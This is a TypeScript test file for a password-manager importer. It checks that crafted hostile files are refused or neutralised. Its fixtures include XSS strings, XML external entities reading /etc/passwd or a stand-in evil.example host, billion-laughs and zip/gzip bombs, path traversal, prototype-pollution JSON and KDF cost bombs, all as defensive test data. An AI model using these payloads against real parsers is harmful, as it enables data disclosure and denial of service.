/** Files made to harm whoever opens them. Each is refused before it costs memory or time, or comes in harmless. */

import { gzipSync } from 'node:zlib';
import { createCipheriv, createHmac, pbkdf2Sync, randomBytes } from 'node:crypto';
import { expect, test } from 'vitest';
import { openable } from '../domain/address.ts';
import { valueOf } from '../domain/portable.ts';
import { kdbxweb, prepareKdbx } from '../formats/kdbx-engine.ts';
import { parseXml, XmlProblem } from '../formats/xml-tree.ts';
import { ImportError, type ImportFailure } from './import-error.ts';
import type { ImportFile, ImportOptions } from './import-file.ts';
import { inspectFile, readFile } from './read-file.ts';
import { member, parseJson } from './safe-json.ts';
import { bytesFile, textFile, zipOf } from './testing/files-node.ts';

async function failure(file: ImportFile, options: ImportOptions = {}): Promise<ImportFailure | 'none'> {
	try {
		await readFile(file, options);
		return 'none';
	} catch (error) {
		if (!(error instanceof ImportError)) throw error;
		return error.failure;
	}
}

const keePassXml = (inside: string, before = '') =>
	textFile(
		`<?xml version="1.0" encoding="utf-8"?>${before}<KeePassFile><Meta><Generator>x</Generator></Meta><Root><Group><Name>Root</Name>${inside}</Group></Root></KeePassFile>`
	);
const entry = (strings: Record<string, string>) =>
	`<Entry>${Object.entries(strings)
		.map(([key, value]) => `<String><Key>${key}</Key><Value>${value}</Value></String>`)
		.join('')}</Entry>`;

test('T64 markup and script addresses in an export are text, and nothing of them can be opened', async () => {
	const html = '&lt;img src=x onerror=alert(1)&gt;&lt;svg onload=alert(1)&gt;';
	const { items } = await readFile(
		keePassXml(entry({ Title: html, URL: 'javascript:alert(1)', Notes: html, [`a${html}`]: 'x' }))
	);
	const [item] = items;
	expect(item!.title).toBe('<img src=x onerror=alert(1)><svg onload=alert(1)>');
	expect(item!.addresses.map(({ url }) => openable(url))).toEqual([undefined]);
	const bitwarden = {
		items: [{ type: 1, name: 'x', login: { uris: [{ uri: 'data:text/html,<script>' }, { uri: 'vbscript:x' }] } }]
	};
	const read = await readFile(textFile(JSON.stringify(bitwarden)));
	expect(read.items[0]!.addresses.map(({ url }) => openable(url))).toEqual([undefined, undefined]);
});

test('T66 XML with a document type is refused: billion laughs, external entities, parameter entities', async () => {
	const laughs =
		'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>';
	for (const before of [
		laughs,
		'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
		'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>'
	]) {
		expect(await failure(keePassXml(entry({ Title: 'x' }), before))).toMatchObject({
			format: 'keepass-xml',
			reason: 'doctype',
			where: expect.stringMatching(/^line \d+$/) as unknown
		});
	}
	// An entity that nobody declared has no meaning either.
	expect(await failure(keePassXml(entry({ Title: '&lol;' })))).toMatchObject({ reason: 'damaged' });
});

test('T66 XML that is nested 100,000 deep is refused, and the stack holds', async () => {
	const deep = `${'<Group>'.repeat(100_000)}${'</Group>'.repeat(100_000)}`;
	expect(await failure(keePassXml(deep))).toMatchObject({ format: 'keepass-xml', reason: 'too-deep' });
	expect(() => parseXml('<a>'.repeat(65))).toThrow(XmlProblem);
});

test('T66 a database whose own XML has a document type is refused like a file', async () => {
	prepareKdbx();
	const credentials = () => new kdbxweb.Credentials(kdbxweb.ProtectedValue.fromString('x'));
	const database = kdbxweb.Kdbx.create(credentials(), 'x');
	const realm = globalThis as unknown as { XMLSerializer: new () => { serializeToString(document: unknown): string } };
	const Own = realm.XMLSerializer;
	// The one place where such a file can be made: the writer of the XML within.
	realm.XMLSerializer = class {
		serializeToString(document: unknown): string {
			return new Own()
				.serializeToString(document)
				.replace('<KeePassFile', '<!DOCTYPE x [<!ENTITY a "b">]><KeePassFile');
		}
	};
	let bytes: ArrayBuffer;
	try {
		bytes = await database.save();
	} finally {
		realm.XMLSerializer = Own;
	}
	expect(await failure(bytesFile(new Uint8Array(bytes)), { password: 'x' })).toMatchObject({
		format: 'kdbx',
		reason: 'doctype'
	});
});

test('T67 archives are not opened, whatever they would unpack to', async () => {
	const bomb = zipOf('export.data', '0'.repeat(5_000_000));
	expect(bomb.length).toBeLessThan(10_000);
	expect(await failure(bytesFile(bomb))).toMatchObject({ format: 'zip', reason: 'not-supported' });
	expect(() => inspectFile(bytesFile(zipOf('../../evil', 'x')))).toThrow(ImportError);
	expect(await failure(bytesFile(gzipSync('x')))).toMatchObject({ reason: 'not-supported' });
});

/** A Buttercup vault around any packed bytes, made as its own library makes one. */
function buttercup(packed: Buffer, password: string): ImportFile {
	const salt = 'salt12345678';
	const derived = pbkdf2Sync(password, salt, 1000, 64, 'sha256');
	const iv = randomBytes(16);
	const cipher = createCipheriv('aes-256-cbc', derived.subarray(0, 32), iv);
	const content = Buffer.concat([cipher.update(packed.toString('base64')), cipher.final()]).toString('base64');
	const mac = createHmac('sha256', derived.subarray(32))
		.update(content + iv.toString('hex') + salt)
		.digest('hex');
	return textFile(`b~>buttercup/a${[content, iv.toString('hex'), salt, mac, 1000, 'cbc'].join('$')}`);
}

test('T67 a packed vault that grows beyond all measure is refused on the way', async () => {
	const bomb = gzipSync(Buffer.alloc(200 * 1024 * 1024));
	expect(bomb.length).toBeLessThan(1024 * 1024);
	expect(await failure(buttercup(bomb, 'pw'), { password: 'pw' })).toMatchObject({
		format: 'buttercup',
		reason: 'too-large'
	});
	expect(await failure(buttercup(gzipSync('cgr 0 a\n'), 'pw'), { password: 'pw' })).toBe('none');
});

test('T68 names of JSON that mean something to JavaScript are names', async () => {
	const text =
		'{"items":[{"type":1,"name":"x","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},' +
		'"login":{"username":"a","__proto__":{"password":"from the prototype"}},"fields":[{"name":"__proto__","value":"v"}]}]}';
	const { items } = await readFile(textFile(text));
	expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
	expect(valueOf(items[0]!, 'password')).toBe('');
	expect(items[0]!.fields.at(-1)).toMatchObject({ label: '__proto__', value: 'v' });
	// Buttercup's commands name properties too.
	const vault = buttercup(
		gzipSync('cgr 0 g\ntgr g "__proto__"\ncen g e\nsep e __proto__ x\nsep e title T\nsep constructor a b\n'),
		'pw'
	);
	expect((await readFile(vault, { password: 'pw' })).items[0]).toMatchObject({ title: 'T', folder: ['__proto__'] });
});

test('T68 what is read from JSON is only what stands in it', () => {
	const json = parseJson('{"a":{"__proto__":{"b":1}},"toString":"x"}', 'bitwarden');
	expect(member(json, 'toString')).toBe('x');
	for (const name of ['constructor', '__proto__', 'hasOwnProperty', 'valueOf'])
		expect(member(json, name)).toBeUndefined();
	const inner = member(json, 'a') as object;
	expect({ ...inner }).not.toHaveProperty('b');
	expect(Object.assign({}, inner)).not.toHaveProperty('b');
	expect(Object.keys(inner)).toEqual([]);
});

test('T68 JSON that is nested 100,000 deep is refused before it is parsed', async () => {
	const deep = `{"items":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
	expect(await failure(textFile(deep))).toMatchObject({ format: 'bitwarden', reason: 'too-deep' });
	const inString = JSON.stringify({ items: [{ type: 2, name: 'x', notes: `${'['.repeat(1000)}\\"{{` }] });
	expect(await failure(textFile(inString))).toBe('none');
});

test('T68 of two members with one name the last counts, as everywhere; halves of characters become whole ones', async () => {
	const { items } = await readFile(textFile('{"items":[{"type":1,"name":"a","name":"b","notes":"x\\ud800y"}]}'));
	expect(items[0]!.title).toBe('b');
	expect(valueOf(items[0]!, 'notes')).toBe('x\uFFFDy');
});

test('T70 titles, labels, tags and folders lose what turns text round; passwords keep every character', async () => {
	const odd = 'a\u202Eb\u200Bc';
	const json = {
		folders: [{ id: 'f', name: `${odd}/caf\u0065\u0301` }],
		items: [
			{
				type: 1,
				name: odd,
				folderId: 'f',
				login: { username: 'x', password: odd },
				fields: [{ name: odd, value: odd, type: 1 }]
			}
		]
	};
	const { items } = await readFile(textFile(JSON.stringify(json)));
	expect(items[0]).toMatchObject({ title: 'abc', folder: ['abc', 'caf\u00E9'] });
	expect(valueOf(items[0]!, 'password')).toBe(odd);
	expect(items[0]!.fields.at(-1)).toMatchObject({ label: 'abc', value: odd });
});

/** A KDBX header with these fields, up to where the encrypted part would begin. */
function header(major: number, minor: number, fields: [id: number, value: Uint8Array][]): ImportFile {
	const size = major >= 4 ? 4 : 2;
	const parts = fields.flatMap(([id, value]) => {
		const head = Buffer.alloc(1 + size);
		head.writeUInt8(id, 0);
		head.writeUIntLE(value.length, 1, size);
		return [head, value];
	});
	const start = Buffer.alloc(12);
	start.writeUInt32LE(0x9aa2d903, 0);
	start.writeUInt32LE(0xb54bfb67, 4);
	start.writeUInt16LE(minor, 8);
	start.writeUInt16LE(major, 10);
	return bytesFile(Buffer.concat([start, ...parts, Buffer.alloc(64)]));
}

const long = (value: bigint) => {
	const bytes = Buffer.alloc(8);
	bytes.writeBigUInt64LE(value);
	return bytes;
};

test('T07 a database that asks for endless work or memory to open is refused before anything is computed', async () => {
	const start = performance.now();
	const rounds = header(3, 1, [[6, long(2n ** 62n)]]);
	expect(await failure(rounds, { password: 'x' })).toMatchObject({
		format: 'kdbx',
		reason: 'too-costly',
		where: 'header'
	});
	const dictionary = Buffer.concat([
		Buffer.from([0x00, 0x01]),
		Buffer.from([0x05, 1, 0, 0, 0, 0x52, 8, 0, 0, 0]),
		long(2n ** 62n),
		Buffer.from([0])
	]);
	expect(await failure(header(4, 0, [[11, dictionary]]), { password: 'x' })).toMatchObject({ reason: 'too-costly' });
	const json = {
		encrypted: true,
		passwordProtected: true,
		salt: 'x',
		kdfType: 1,
		kdfIterations: 3,
		kdfMemory: 1_000_000,
		kdfParallelism: 4,
		encKeyValidation_DO_NOT_EDIT: '',
		data: ''
	};
	expect(await failure(textFile(JSON.stringify(json)), { password: 'x' })).toMatchObject({ reason: 'too-costly' });
	expect(await failure(textFile(JSON.stringify({ ...json, kdfMemory: -1 })), { password: 'x' })).toMatchObject({
		reason: 'damaged',
		where: 'kdfMemory'
	});
	expect(performance.now() - start).toBeLessThan(5000);
});

test('[PW-51] a database with a key file and no password opens with none, and not with an empty one', async () => {
	prepareKdbx();
	const keyFile = new TextEncoder().encode('32 bytes or any other number');
	const database = kdbxweb.Kdbx.create(new kdbxweb.Credentials(null, keyFile.slice().buffer), 'x');
	const file = bytesFile(new Uint8Array(await database.save()));
	expect(await failure(file, { password: null, keyFile })).toBe('none');
	expect(await failure(file, { keyFile })).toBe('none');
	expect(await failure(file, { password: '', keyFile })).toMatchObject({ reason: 'wrong-key' });
	expect(await failure(file, {})).toMatchObject({ reason: 'password-missing' });
});

test('[PW-53] a database of another version says what to do in KeePass', async () => {
	const versions: [number, number][] = [
		[2, 0],
		[5, 0],
		[4, 2],
		[3, 2]
	];
	for (const [major, minor] of versions) {
		const file = header(major, minor, []);
		expect(await failure(file, { password: 'x' })).toMatchObject({
			format: 'kdbx',
			reason: 'version',
			where: 'header',
			advice: expect.stringMatching(/save it as KDBX 4/) as unknown
		});
	}
	const kdb = Buffer.alloc(124);
	kdb.writeUInt32LE(0x9aa2d903, 0);
	kdb.writeUInt32LE(0xb54bfb65, 4);
	expect(await failure(bytesFile(kdb))).toMatchObject({ format: 'kdb', reason: 'version' });
});

test('[PW-53] a file that broke says whose it was and where', async () => {
	expect(await failure(textFile('{"encrypted":false,\n"folders":[],\n"items":[{"name":"x"},\n{"na'))).toMatchObject({
		format: 'bitwarden',
		reason: 'damaged',
		where: 'line 4'
	});
	expect(
		await failure(
			textFile('{"uuid":"x","typeName":"webforms.WebForm"}\n***5642bee8-a5ff-11dc-8314-0800200c9a66***\n{"uuid":')
		)
	).toMatchObject({
		format: '1pif',
		reason: 'damaged',
		where: 'line 3'
	});
	expect(await failure(keePassXml('<Entry><String></Entry>'))).toMatchObject({
		format: 'keepass-xml',
		reason: 'damaged',
		where: 'line 1'
	});
	expect(await failure(textFile(''))).toMatchObject({ reason: 'empty' });
	expect(await failure(textFile('{"a":1}'))).toMatchObject({ format: 'unknown', reason: 'unknown-format' });
});

test('[PW-53] what an error says never holds a word of the file', async () => {
	const canary = 'c4nary-s3cret';
	const files = [
		textFile(`{"items":[{"name":"${canary}","login":{"password":"${canary}"`),
		textFile(`name,url,password\n${canary},x,"${canary}`),
		keePassXml(`<Entry><String><Key>${canary}</Key></Entry>`),
		textFile(`b~>buttercup/a${canary}$${canary}`)
	];
	for (const file of files) {
		try {
			await readFile(file, { password: canary });
			expect.unreachable();
		} catch (error) {
			expect(String(error) + JSON.stringify((error as ImportError).failure)).not.toContain('c4nary');
		}
	}
});
